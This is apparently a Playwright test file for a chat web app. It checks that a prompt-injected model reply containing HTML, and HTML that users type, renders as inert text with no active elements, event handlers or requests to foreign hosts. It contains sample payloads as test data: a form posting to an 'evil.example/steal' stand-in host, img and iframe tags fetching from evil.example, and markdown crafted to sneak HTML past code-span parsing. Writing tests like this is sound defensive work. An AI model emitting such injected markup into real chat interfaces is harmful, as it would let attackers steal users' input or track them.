"""A prompt-injected model reply full of HTML, rendered in Chromium: nothing in it becomes active, live or after
a reload. No form, input, button, iframe, object, style or script element comes from the message, no event
handler runs, and the browser requests nothing from any host but the chat's own; the Markdown in it (a table,
inline code, a code block, an https link) still renders."""

from __future__ import annotations

from collections.abc import Iterator
from urllib.parse import urlparse

import pytest
from playwright.sync_api import Browser, Page, expect

from harness.chat_process import ChatProcess
from harness.fakes.openai_server import FakeOpenAIServer
from tests.browser.chat_page import ChatPage
from tests.security.conftest import USERS

pytestmark = pytest.mark.browser

# Elements that must not come from message text (Gradio's own copy button on code blocks is not from it).
ACTIVE = (
    "form, input, button:not(.copy_code_button), textarea, select, iframe, object, embed, style, script, link,"
    " meta, img, video, audio"
)


@pytest.fixture
def hostile(fake_model: FakeOpenAIServer) -> Iterator[FakeOpenAIServer]:
    fake_model.mode = "html"
    yield fake_model
    fake_model.mode = "normal"


@pytest.fixture
def signed_in_page(browser: Browser, password_chat: ChatProcess) -> Iterator[tuple[Page, list[str]]]:
    """Ada's page; every request to a host other than the chat's is recorded and aborted."""
    context = browser.new_context(viewport={"width": 1280, "height": 900})
    context.set_default_timeout(15_000)
    foreign: list[str] = []
    own = urlparse(password_chat.url).netloc

    def guard(route) -> None:
        if urlparse(route.request.url).netloc != own:
            foreign.append(route.request.url)
            route.abort()
        else:
            route.continue_()

    context.route("**/*", guard)
    answer = context.request.post(f"{password_chat.url}/login", form={"username": "ada", "password": USERS["ada"]})
    assert answer.ok, answer.text()
    yield context.new_page(), foreign
    context.close()


def assert_inert(ui: ChatPage, foreign: list[str]) -> None:
    message = ui.last_bot
    expect(message).to_contain_text("Read the docs")
    expect(message.locator(ACTIVE)).to_have_count(0)
    # Escaped HTML shows as text, so the person sees what the model tried.
    expect(message).to_contain_text('<form action="https://evil.example/steal" method="post">')
    handlers = message.evaluate(
        "(el) => [el, ...el.querySelectorAll('*')].flatMap(n => [...n.attributes].map(a => a.name))"
        ".filter(name => name.startsWith('on'))"
    )
    assert handlers == []
    assert message.locator("a[href^='javascript:' i]").count() == 0
    # The Markdown still renders.
    expect(message.locator("table td")).to_have_text(["apple", "3"])
    expect(message.locator("code").first).to_have_text("<b>code</b>")
    expect(message.locator("pre code")).to_contain_text('<form action="https://evil.example/">shown as code</form>')
    expect(message.locator("a[href='https://example.com/docs']")).to_have_text("the docs")
    message.get_by_text("hover me").hover()
    assert ui.page.evaluate("() => document.body.dataset.pwned") is None
    assert ui.page.evaluate("() => getComputedStyle(document.body).display") != "none"
    assert foreign == [], f"the page requested other hosts: {foreign}"


def test_a_hostile_reply_stays_text_live_and_after_reload(
    signed_in_page: tuple[Page, list[str]], password_chat: ChatProcess, hostile: FakeOpenAIServer
):
    page, foreign = signed_in_page
    ui = ChatPage(page, password_chat.url).open()
    ui.send("Show me something")
    expect(ui.last_bot).to_contain_text("Read the docs", timeout=30_000)
    ui.wait_idle()
    assert_inert(ui, foreign)

    ui.reload()  # what the store gives back is rendered the same way
    expect(ui.user_messages).to_have_text(["Show me something"])
    assert_inert(ui, foreign)


def test_html_the_user_types_stays_text(signed_in_page: tuple[Page, list[str]], password_chat: ChatProcess):
    page, foreign = signed_in_page
    ui = ChatPage(page, password_chat.url).open()
    typed = "<img src=https://evil.example/u.png><form><input name=p></form> ![x](https://evil.example/m.png)"
    ui.send_and_wait(typed, f"You said: {typed}")
    for message in (ui.user_messages.last, ui.last_bot):
        expect(message.locator(ACTIVE)).to_have_count(0)
        expect(message).to_contain_text("<form><input name=p></form>")
    assert foreign == []


TRICKY = [
    "- a list item\n  ```\n  <form><input name=a></form>\n  ```",  # a fence nested in a list
    "> ```\n> <iframe src=https://evil.example/q></iframe>",  # a fence in a quote
    "\\`<form><input name=b>` an escaped backtick opens no code span",
    "| a | b |\n|---|---|\n| `x | <form><input name=c>` |",  # a code span split by a table cell
    "```\n<b>fence</b>\n```\n<form><input name=d></form>",  # text right after a closed fence
]


@pytest.mark.parametrize("typed", TRICKY)
def test_markdown_where_code_ends_is_judged_safely(
    signed_in_page: tuple[Page, list[str]], password_chat: ChatProcess, typed: str
):
    page, foreign = signed_in_page
    ui = ChatPage(page, password_chat.url).open()
    ui.send(typed)
    mine = ui.user_messages.last
    expect(mine).to_be_visible()
    ui.wait_idle()
    expect(mine.locator(ACTIVE)).to_have_count(0)
    expect(ui.last_bot.locator(ACTIVE)).to_have_count(0)
    assert foreign == []
